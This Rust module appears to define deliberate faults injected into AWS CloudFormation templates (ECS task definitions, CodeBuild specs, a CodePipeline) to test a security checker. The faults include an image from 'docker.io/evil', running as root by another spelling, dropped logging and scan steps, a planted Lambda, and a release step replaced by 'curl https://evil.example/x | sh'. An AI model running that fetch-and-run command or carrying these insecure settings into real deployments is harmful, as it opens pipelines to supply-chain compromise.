//! Faults of what runs: tasks with another image or another start, and a pipeline that does something else.

use serde_json::{Value, json};

use super::fewer;
use crate::check::faults::Fault;
use crate::check::faults::plot::{Plot, write};

const TASK: &str = "AWS::ECS::TaskDefinition";
const STAFF: (&str, &str) = (TASK, "StaffTask");
const OWN: &str = "ContainerDefinitions/0";
const OUTSIDE: &[&str] = &["network"];
const READ: &[&str] = &["6-4 what runs is what was read"];
const POWER: &[&str] = &["6-4 tasks run with least power"];

/// The commands of a step of the pipeline, spoilt.
fn commands(plot: &mut Plot, step: &str, spoil: fn(&mut Vec<Value>)) -> usize {
    plot.one(("AWS::CodeBuild::Project", step), |project| {
        let text = project.pointer("/Properties/Source/BuildSpec").and_then(Value::as_str);
        let mut specification: Value =
            text.and_then(|text| serde_json::from_str(text).ok()).unwrap_or_default();
        let list = specification.pointer_mut("/phases/build/commands");
        list.and_then(Value::as_array_mut).into_iter().for_each(spoil);
        let text = Value::from(specification.to_string());
        write(project, "/Properties/Source/BuildSpec", &text)
    })
}

pub const FAULTS: &[Fault] = &[
    Fault::new("an image of anybody's", POWER, |p| {
        p.set(STAFF, &format!("{OWN}/Image"), json!("docker.io/evil/kura:latest"))
    }),
    Fault::new("an image by a name that can be moved", POWER, |p| {
        let latest = "111122223333.dkr.ecr.ap-northeast-1.${AWS::URLSuffix}/kura:latest";
        p.set(STAFF, &format!("{OWN}/Image"), json!({"Fn::Sub": latest}))
    }),
    Fault::new("a second container beside the program", POWER, |p| {
        p.one(STAFF, |task| {
            let list = task.pointer_mut("/Properties/ContainerDefinitions");
            let list = list.and_then(Value::as_array_mut);
            list.is_some_and(|list| {
                let second = list.first().cloned().map(|mut own| {
                    write(&mut own, "/Name", &json!("x"));
                    write(&mut own, "/PortMappings", &json!([]));
                    own
                });
                second.map(|second| list.push(second)).is_some()
            })
        })
    }),
    Fault::new("a task runs as root by another spelling", POWER, |p| {
        p.set(STAFF, &format!("{OWN}/User"), json!("00:00"))
    }),
    Fault::new("a task keeps the powers it is born with", POWER, |p| {
        p.unset(STAFF, &format!("{OWN}/LinuxParameters"))
    }),
    Fault::new("a task keeps its log to itself", &["4-1 エ the program's logs"], |p| {
        p.unset(STAFF, &format!("{OWN}/LogConfiguration"))
    }),
    Fault::new("the staff's site is told no network", READ, |p| {
        p.one(STAFF, |task| {
            let list = "/Properties/ContainerDefinitions/0/Environment";
            fewer(task, list, "KURA_STAFF_NETWORKS")
        })
    }),
    Fault::new("the customers' site is told no database", READ, |p| {
        p.one((TASK, "CustomerTask"), |task| {
            let list = "/Properties/ContainerDefinitions/0/Environment";
            fewer(task, list, "KURA_DATABASE_URL")
        })
    }),
    Fault::new("the stage of trials releases to customers", READ, |p| {
        p.one(("AWS::CodePipeline::Pipeline", ""), |line| {
            let stages = line.pointer_mut("/Properties/Stages").and_then(Value::as_array_mut);
            let Some(stages) = stages else { return false };
            let of = |name: &str| {
                stages.iter().position(|stage| stage.get("Name").is_some_and(|own| own == name))
            };
            let both = of("Dev").zip(of("Prod"));
            let path = "/Actions/0/Configuration";
            let prod = both.and_then(|(_, prod)| stages.get(prod)?.pointer(path).cloned());
            let dev = both.and_then(|(dev, _)| stages.get_mut(dev));
            dev.zip(prod).is_some_and(|(dev, prod)| write(dev, path, &prod))
        })
    })
    .within("tools"),
    Fault::new("the release runs what a stranger wrote", READ, |p| {
        commands(p, "ReleaseProdStep", |all| {
            *all = vec![json!("curl https://evil.example/x | sh")];
        })
    })
    .within("tools"),
    Fault::new("neither scan nor signature stops a release", READ, |p| {
        commands(p, "ImageStep", |all| {
            all.retain(|one| {
                !["GRAVE", "SIGNED"].iter().any(|word| one.to_string().contains(word))
            });
        })
    })
    .within("tools"),
    Fault::new("a function of anybody's beside the network", OUTSIDE, |p| {
        let function = json!({"Role": {"Fn::GetAtt": ["BackupRole", "Arn"]}, "Runtime": "python3.12",
            "Handler": "a.b", "Code": {"ZipFile": "x"}});
        p.add("data", "Planted", "AWS::Lambda::Function", function)
    }),
];
